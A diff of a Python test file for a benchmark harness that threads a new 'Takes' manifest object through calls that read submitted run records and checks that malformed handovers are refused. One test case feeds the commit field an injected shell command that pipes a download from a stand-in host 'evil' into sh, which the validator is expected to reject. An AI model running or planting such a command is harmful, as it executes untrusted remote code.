@@ -24,6 +24,7 @@ from harness.pipeline.result import observed_without_engine
 from harness.protocol import Protocol, load_protocol
 from harness.records.schema import About, SubmissionFacts
 from harness.run.result import digest_outputs
+from harness.submission.manifest import Takes
 
 FACTS = SubmissionFacts(slug="s", name="S", version="1", authors=("T",), digest="0" * 64, family=(), anchor=False)
 ABOUT = About()
@@ -120,6 +121,7 @@ Altered = Callable[[dict[str, Any]], object]
 @pytest.mark.parametrize(
     ("alter", "said"),
     [
+        (lambda run: run.update(takes={"input": "uint16-hu"}), "takes: expected"),
         (lambda run: run["observed"].update(date="2999-01-01T00:00:00Z"), "in the future"),
         (lambda run: run["observed"].update(date="\u202e"), "date: expected"),
         (lambda run: run["observed"].update(commit="x; curl evil | sh"), "commit: expected"),
@@ -146,7 +148,7 @@ def test_a_handover_is_refused_by_what_is_wrong_with_it(
         raw["digest"] = digest_json(msgspec.structs.replace(msgspec.convert(raw, TransferredRun), digest=""))
     write_json(folder / "run.json", raw)
     with pytest.raises(UsageError) as caught:
-        read_run(folder, submission=FACTS, about=ABOUT, dataset=dataset, protocol=protocol)
+        read_run(folder, submission=FACTS, about=ABOUT, takes=Takes(), dataset=dataset, protocol=protocol)
     assert said in caught.value.message
 
 
@@ -161,7 +163,7 @@ def test_a_handover_that_is_no_file_is_refused(tmp_path: Path, dataset: Dataset,
     if kind == "sparse":
         os.truncate(path, 3 << 30)
     with pytest.raises(UsageError, match=r"run\.json: (is not a regular file|has 3221225472 bytes|Expected `object`)"):
-        read_run(path.parent, submission=FACTS, about=ABOUT, dataset=dataset, protocol=protocol)
+        read_run(path.parent, submission=FACTS, about=ABOUT, takes=Takes(), dataset=dataset, protocol=protocol)
 
 
 def test_outputs_of_further_slices_are_handed_over_and_checked_as_strictly(
@@ -171,7 +173,7 @@ def test_outputs_of_further_slices_are_handed_over_and_checked_as_strictly(
     outcome = RunOutcome(
         submission=FACTS,
         device="cpu",
-        context=1,
+        takes=Takes(context=1),
         outputs=digest_outputs(images),
         observed=msgspec.structs.replace(observed_without_engine(protocol), about=ABOUT),
     )
@@ -180,8 +182,10 @@ def test_outputs_of_further_slices_are_handed_over_and_checked_as_strictly(
     write_run(folder, outcome, outputs, inputs=dataset, protocol=protocol)
 
     def read() -> dict[str, Any]:
-        run, found = read_run(folder, submission=FACTS, about=ABOUT, dataset=dataset, protocol=protocol)
-        assert run.context == 1
+        run, found = read_run(
+            folder, submission=FACTS, about=ABOUT, takes=Takes(context=1), dataset=dataset, protocol=protocol
+        )
+        assert run.takes == Takes(context=1)
         return dict(found)
 
     found = read()
@@ -203,4 +207,4 @@ def test_outputs_of_further_slices_are_handed_over_and_checked_as_strictly(
     # a machine that knows other further slices takes none of it
     fewer = msgspec.structs.replace(dataset, further=dataset.further[:2])
     with pytest.raises(UsageError, match="slices: expected"):
-        read_run(folder, submission=FACTS, about=ABOUT, dataset=fewer, protocol=protocol)
+        read_run(folder, submission=FACTS, about=ABOUT, takes=Takes(), dataset=fewer, protocol=protocol)
